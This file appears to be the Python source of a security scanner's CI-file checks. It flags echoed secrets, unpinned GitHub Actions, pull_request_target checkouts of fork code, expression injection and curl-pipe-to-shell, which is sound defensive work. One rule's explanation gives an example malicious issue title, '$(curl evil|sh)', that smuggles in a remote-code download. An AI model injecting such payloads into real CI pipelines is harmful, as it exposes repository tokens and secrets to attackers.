"""CI file checks: GitHub Actions workflows and ``.gitlab-ci.yml``.

GitHub: secrets echoed in ``run`` scripts (directly or through an ``env``
variable that holds a secret), actions not pinned to a commit SHA,
``pull_request_target`` workflows that check out the pull request's head,
untrusted event fields (issue titles, PR bodies, head refs) expanded into ``run``
scripts, and ``curl | sh``. GitLab: secret variables echoed in ``script``, ``curl | sh``.
"""

from __future__ import annotations

import os
import re
from functools import partial
from typing import Any

from opsforge.security.findings import Finding, Location, Severity
from opsforge.security.scan.config_rules import config_check
from opsforge.security.scan.docker import PIPE_TO_SHELL
from opsforge.security.scan.yaml_lines import key_line, line_of

__all__ = ["ci_kind", "scan_github_workflow", "scan_gitlab_ci"]

_SHA = re.compile(r"^[0-9a-f]{40}$")
_ECHO = re.compile(r"\b(?:echo|printf|print|cat\s+<<<|Write-Host|Write-Output)\b")
_SECRET_EXPR = re.compile(r"\$\{\{\s*secrets\.[A-Za-z0-9_]+\s*\}\}")
_SECRET_VAR_NAME = re.compile(r"(?i)passw|secret|token|api_?key|private_?key|credential")
_UNTRUSTED = re.compile(
    r"\$\{\{[^}]*github\.(?:event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref"
    r"|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body"
    r"|pages\.[^}]*\.page_name|commits\.[^}]*\.(?:message|author\.(?:email|name))"
    r"|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.head_branch)|head_ref)"
)
_HEAD_REF = re.compile(r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref")


_check = partial(config_check, tag="ci")


SECRET_ECHOED = _check(
    "ci.secret-echoed", "Secret printed in a CI script", Severity.HIGH,
    "Printing a secret puts it into the job log; masking is best-effort (encodings, "
    "substrings and multi-line values slip through) and logs are widely readable.",
    "Never echo secrets; pass them to the program through the environment or a file.",
)  # fmt: skip
UNPINNED_ACTION = _check(
    "ci.unpinned-action", "Action not pinned to a commit SHA", Severity.MEDIUM,
    "A tag or branch of a third-party action can be moved to malicious code at any time; "
    "the workflow then runs it with the repository's token and secrets.",
    "Pin to the full 40-character commit SHA (uses: owner/action@<sha>  # v4.1.0).",
)  # fmt: skip
PR_TARGET_CHECKOUT = _check(
    "ci.pull-request-target-checkout",
    "pull_request_target workflow checks out the pull request head", Severity.CRITICAL,
    "pull_request_target runs with a write token and secrets; checking out and building the "
    "untrusted head of a fork's pull request lets the fork run code with them ('pwn request').",
    "Use the pull_request event for untrusted code, or do not check out the head ref in "
    "pull_request_target workflows.",
)  # fmt: skip
EXPRESSION_INJECTION = _check(
    "ci.expression-injection",
    "Untrusted event data expanded into a run script",
    Severity.HIGH,
    "${{ github.event.issue.title }} (and other attacker-controlled fields) is pasted into "
    "the shell script before it runs: a title like $(curl evil|sh) runs with the job's "
    "token and secrets.",
    'Pass the value through env: (TITLE: ${{ github.event.issue.title }}) and use "$TITLE".',
)
CI_PIPE_SHELL = _check(
    "ci.curl-pipe-shell", "Downloaded script piped into a shell in CI", Severity.HIGH,
    "curl | sh in CI runs unverified remote code with the pipeline's credentials.",
    "Download, verify a checksum or signature, then run; or use a pinned package/action.",
)  # fmt: skip


def ci_kind(rel: str) -> str | None:
    name = os.path.basename(rel)
    if name in {".gitlab-ci.yml", ".gitlab-ci.yaml"} or rel.endswith(".gitlab-ci.yml"):
        return "gitlab"
    if "/.github/workflows/" in f"/{rel}" and name.endswith((".yml", ".yaml")):
        return "github"
    return None


def _lines_of_script(script: str, start: int) -> list[tuple[int, str]]:
    return [(start + i, text) for i, text in enumerate(script.splitlines())]


def _script_findings(
    rel: str, script: str, first_line: int, secret_vars: set[str]
) -> list[Finding]:
    findings = []
    offset = 1 if script.endswith("\n") else 0  # block scalars (| or >) start on the next line
    for line, text in _lines_of_script(script, first_line + offset):
        location = Location(path=rel, line=line, snippet=text.strip()[:300])
        if _ECHO.search(text):
            names = {m.group(1) for m in re.finditer(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", text)}
            if _SECRET_EXPR.search(text) or names & secret_vars:
                findings.append(SECRET_ECHOED.at(location))
        if PIPE_TO_SHELL.search(text):
            findings.append(CI_PIPE_SHELL.at(location))
        if _UNTRUSTED.search(text):
            findings.append(EXPRESSION_INJECTION.at(location))
    return findings


def _env_secrets(*scopes: Any) -> set[str]:
    names = set()
    for scope in scopes:
        env = scope.get("env") if isinstance(scope, dict) else None
        if isinstance(env, dict):
            names |= {str(k) for k, v in env.items() if _SECRET_EXPR.search(str(v))}
    return names


def _events(workflow: dict[Any, Any]) -> set[str]:
    on = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    if isinstance(on, str):
        return {on}
    if isinstance(on, list):
        return {str(e) for e in on}
    if isinstance(on, dict):
        return {str(e) for e in on}
    return set()


def scan_github_workflow(rel: str, workflow: Any) -> list[Finding]:
    if not isinstance(workflow, dict):
        return []
    findings: list[Finding] = []
    pr_target = "pull_request_target" in _events(workflow)
    jobs = workflow.get("jobs")
    for job in jobs.values() if isinstance(jobs, dict) else []:
        if not isinstance(job, dict):
            continue
        if isinstance(job.get("uses"), str):  # reusable workflow
            findings.extend(_uses(rel, job, job["uses"]))
        for step in job.get("steps") or []:
            if not isinstance(step, dict):
                continue
            uses = step.get("uses")
            if isinstance(uses, str):
                findings.extend(_uses(rel, step, uses))
                with_ = step.get("with")
                ref = str(with_.get("ref", "")) if isinstance(with_, dict) else ""
                if pr_target and uses.startswith("actions/checkout") and _HEAD_REF.search(ref):
                    location = Location(
                        path=rel, line=key_line(with_, "ref"), snippet=f"ref: {ref}"
                    )
                    findings.append(PR_TARGET_CHECKOUT.at(location))
            run = step.get("run")
            if isinstance(run, str):
                secret_vars = _env_secrets(workflow, job, step)
                findings.extend(_script_findings(rel, run, key_line(step, "run"), secret_vars))
    return findings


def _uses(rel: str, node: Any, uses: str) -> list[Finding]:
    if uses.startswith(("./", "docker://")) or "@" not in uses:
        return []
    ref = uses.rsplit("@", 1)[1]
    if _SHA.match(ref):
        return []
    location = Location(path=rel, line=key_line(node, "uses"), snippet=f"uses: {uses}")
    return [UNPINNED_ACTION.at(location, message=f"{uses} is pinned to a movable ref '{ref}'")]


def scan_gitlab_ci(rel: str, pipeline: Any) -> list[Finding]:
    if not isinstance(pipeline, dict):
        return []
    findings: list[Finding] = []
    global_vars = pipeline.get("variables")
    secret_vars = {"CI_JOB_TOKEN", "CI_REGISTRY_PASSWORD", "CI_DEPLOY_PASSWORD"}
    if isinstance(global_vars, dict):
        secret_vars |= {str(k) for k in global_vars if _SECRET_VAR_NAME.search(str(k))}
    for job in pipeline.values():
        if not isinstance(job, dict):
            continue
        for key in ("before_script", "script", "after_script"):
            lines = job.get(key)
            if isinstance(lines, str):
                lines = [lines]
            if not isinstance(lines, list):
                continue
            for index, text in enumerate(lines):
                if not isinstance(text, str):
                    continue
                first = line_of(lines, key_line(job, key)) + index
                names = {m.group(1) for m in re.finditer(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", text)}
                secretish = {n for n in names if _SECRET_VAR_NAME.search(n)} | (names & secret_vars)
                findings.extend(_script_findings(rel, text, first, secretish))
    return findings
